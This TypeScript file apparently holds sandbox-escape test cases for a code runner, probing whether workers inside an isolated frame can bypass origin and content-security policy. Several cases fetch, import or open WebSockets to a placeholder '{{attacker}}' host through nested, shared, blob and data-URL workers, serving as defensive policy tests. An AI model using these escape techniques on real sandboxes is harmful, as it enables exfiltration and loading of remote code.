/** The same requests and stores from a worker of the frame in which nothing is hidden: origin and policy hold alone. */
import { bare, each } from '../attempt.ts'
import { uses as requests } from './network.ts'
import { uses as stores } from './storage.ts'

const direct = `const find = (name) => { if (globalThis[name]) return globalThis[name]; throw new ReferenceError(name) }`
const nested = `
const nested = (script) => new Promise((resolve, reject) => {
  const worker = new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })))
  worker.onmessage = ({ data }) => resolve(String(data))
  worker.onerror = () => reject(new Error('worker'))
})`
const send = (request: string) =>
  `Promise.resolve().then(async () => { ${request} }).then((value) => postMessage('sent ' + value), (error) => postMessage(error.name))`
const readLog = `const open = indexedDB.open('viva'); await new Promise((resolve, reject) => { open.onsuccess = resolve; open.onerror = () => reject(open.error) }); return open.result.name`
const refused = { lacks: /ended: (sent|canary|\[)/ }

export const attempts = [
  ...each(Object.keys(requests), (name) => bare(`policy-network-${name}`, `${direct}\n${requests[name]}`)),
  ...each(Object.keys(stores), (name) => bare(`policy-storage-${name}`, stores[name] ?? '')),
  bare(
    'policy-nested-fetch',
    `${nested}\nreturn await nested(${JSON.stringify(send(`await fetch('{{attacker}}', { mode: 'no-cors' })`))})`,
    { expect: refused },
  ),
  bare(
    'policy-nested-fetch-site',
    `${nested}\nreturn await nested(${JSON.stringify(send(`return (await fetch('{{site}}/?{{id}}')).status`))})`,
    { expect: refused },
  ),
  bare(
    'policy-nested-websocket',
    `${nested}\nreturn await nested(${JSON.stringify(send(`new WebSocket('ws://{{attackerHost}}/{{id}}'); await new Promise((resolve) => setTimeout(resolve, 60))`))})`,
  ),
  bare('policy-nested-indexeddb', `${nested}\nreturn await nested(${JSON.stringify(send(readLog))})`, {
    expect: refused,
  }),
  bare(
    'policy-nested-import',
    `${nested}\nreturn await nested(${JSON.stringify(send(`await import('{{attacker}}')`))})`,
    { expect: refused },
  ),
  bare(
    'policy-nested-import-scripts',
    `${nested}\nreturn await nested(${JSON.stringify(send(`importScripts('{{attacker}}')`))})`,
    { expect: refused },
  ),
  bare(
    'policy-nested-twice',
    `${nested}\nreturn await nested(${JSON.stringify(`const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(send(`await fetch('{{attacker}}', { mode: 'no-cors' })`))}]))); worker.onmessage = ({ data }) => postMessage(data)`)})`,
    { expect: refused },
  ),
  bare(
    'policy-nested-module',
    `const worker = new Worker(URL.createObjectURL(new Blob(['import "{{attacker}}"; postMessage("sent")'], { type: 'text/javascript' })), { type: 'module' })\nreturn await new Promise((resolve, reject) => { worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new Error('worker')) })`,
    { expect: refused },
  ),
  bare(
    'policy-shared-blob',
    `new SharedWorker(URL.createObjectURL(new Blob(['fetch("{{attacker}}")'], { type: 'text/javascript' }))); await new Promise((resolve) => setTimeout(resolve, 80))`,
  ),
  bare(
    'policy-worker-data',
    `new Worker('data:text/javascript,fetch("{{attacker}}")'); await new Promise((resolve) => setTimeout(resolve, 80))`,
  ),
  bare('policy-fetch-blob-url', `return 'sent ' + (await (await fetch(URL.createObjectURL(new Blob(['x'])))).text())`, {
    expect: refused,
  }),
  bare('policy-fetch-data-url', `return 'sent ' + (await (await fetch('data:,x')).text())`, { expect: refused }),
  bare(
    'policy-fetch-redirect',
    `return 'sent ' + (await fetch('{{site}}/engines?{{id}}', { redirect: 'follow', mode: 'no-cors' })).type`,
    { expect: refused },
  ),
  bare(
    'policy-fetch-credentials',
    `return 'sent ' + (await (await fetch('{{site}}/?{{id}}', { credentials: 'include' })).text())`,
    { expect: refused },
  ),
  bare(
    'policy-fetch-only-cached',
    `return 'sent ' + (await (await fetch('{{site}}/site.js', { cache: 'only-if-cached', mode: 'same-origin' })).text())`,
    { expect: refused },
  ),
  bare('policy-import-site-script', `return 'sent ' + Object.keys(await import('{{site}}/site.js?{{id}}'))`, {
    expect: refused,
  }),
  bare('policy-import-scripts-data', `importScripts('data:text/javascript,globalThis.sent=1'); return 'sent ' + sent`, {
    expect: refused,
  }),
  bare(
    'policy-import-scripts-blob',
    `importScripts(URL.createObjectURL(new Blob(['fetch("{{attacker}}").catch(() => {})']))); await new Promise((resolve) => setTimeout(resolve, 50))`,
  ),
  bare('policy-origin', `return self.origin + ' ' + location.origin`, { expect: { matches: /^ended: null null/m } }),
  bare(
    'policy-post-to-frame',
    `for (const data of [{ type: 'gone', id: 1 }, { snapshot: 1 }, { __proto__: 1 }, null, 'viva-runner-port']) postMessage(data)`,
  ),
  bare(
    'policy-post-port-to-frame',
    `const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => print('answer', JSON.stringify(data)); postMessage('viva-runner-port', [port2]); port1.postMessage({ type: 'ping' }); await new Promise((resolve) => setTimeout(resolve, 80))`,
    { expect: { lacks: /pong|hello/ } },
  ),
  bare(
    'policy-post-port-object',
    `const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => print('answer', JSON.stringify(data)); postMessage({ data: 'viva-runner-port', ports: [port2] }, [port2]); await new Promise((resolve) => setTimeout(resolve, 80))`,
    { expect: { lacks: /pong|hello/ } },
  ),
]
